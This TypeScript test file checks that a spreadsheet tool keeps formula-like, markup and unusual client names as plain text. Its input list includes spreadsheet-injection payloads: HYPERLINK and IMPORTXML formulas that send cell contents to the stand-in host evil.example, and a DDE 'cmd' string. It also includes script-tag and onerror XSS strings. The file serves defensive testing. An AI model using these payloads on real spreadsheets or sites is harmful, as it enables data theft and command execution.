import type { FileCell, World } from "../../workbench/types.ts";
import { cellsOf, company, ourTabs, REPORTS, team } from "./installed-team.ts";

const TEAM = ["Deals", "Clients", "Orders"];
const worlds: readonly Partial<World>[] = [{}, { locale: "ru_RU", zone: "Europe/Moscow", language: "ru" }];

/** Texts that would be something else if a program wrote them as they are. */
const texts = [
  "=1+1",
  '=HYPERLINK("https://evil.example/?"&A1;"click")',
  '=IMPORTXML("https://evil.example/"&B2;"//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1;1)",
  "'quoted",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "</script><b>",
  "00123",
  "1E5",
  "1/2",
  "31.03.2026",
  "TRUE",
  "истина",
  "{=1}",
  "{{constructor}}",
  "Oak\nElm",
  "😀".repeat(120),
  "я".repeat(50_000),
];
const cells: readonly FileCell[] = texts.map((text) => ({ text }));

describe.each(worlds)("Names that are code, numbers or markup stay what they are: %j", (world) => {
  const opened = team(company(cells), world);
  const { book, ask, build } = opened;
  const before = cellsOf(book, TEAM);

  test.each([...REPORTS, "monitor"] as const)(
    "%s is built twice, and the team's tabs are as they were",
    async (report) => {
      await build(report);
      expect(cellsOf(book, TEAM)).toEqual(before);
      await build(report);
      expect(cellsOf(book, TEAM)).toEqual(before);
    },
  );

  test("no cell of ours holds any of them as a formula", () => {
    const formulas = ourTabs(book).flatMap(({ sheetId }) =>
      [...book.getters.getCells(sheetId)].flatMap((cell) =>
        cell.isFormula ? cell.compiledFormula.toFormulaString(book.getters) : [],
      ),
    );
    expect(formulas.length).toBeGreaterThan(10);
    /** Links of ours lead to a row of the same file. */
    const others = formulas.filter((formula) => !/^=HYPERLINK\("#gid=\d+&range=A\d+","[^"]+ \d+"\)$/.test(formula));
    expect(others.filter((formula) => /evil|cmd|HYPERLINK|IMPORTXML|SUM\(1|^=1\+1$|^=-2/.test(formula))).toEqual([]);
  });

  test("each stands in the task sheets letter by letter, as a text, and in the panel", async () => {
    const { tasks } = await ask("today");
    const clients = tasks.map(({ client }) => client);
    const written = ourTabs(book).flatMap(({ sheetId }) =>
      book.getters.getEvaluatedCells(sheetId).map(({ value }) => value),
    );
    for (const text of texts) {
      expect(written).toContain(text);
      expect(clients).toContain(text.replace(/\s+/g, " "));
    }
  });
});
